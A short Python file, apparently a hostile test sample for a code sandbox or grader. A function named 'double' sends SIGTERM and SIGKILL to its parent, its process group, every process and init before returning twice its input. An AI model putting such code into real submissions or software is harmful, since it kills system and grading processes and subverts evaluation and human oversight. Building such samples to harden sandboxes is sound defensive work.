"""Sends deadly signals to its parent, its group and everybody, against the zygote and the grader (49)."""
import os
import signal


def double(x):
    refused = None
    for target in (os.getppid(), -1, 0, -os.getpgrp(), -os.getppid(), 1):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError as error:
                refused = error
                continue
            return 2 * x
    raise refused
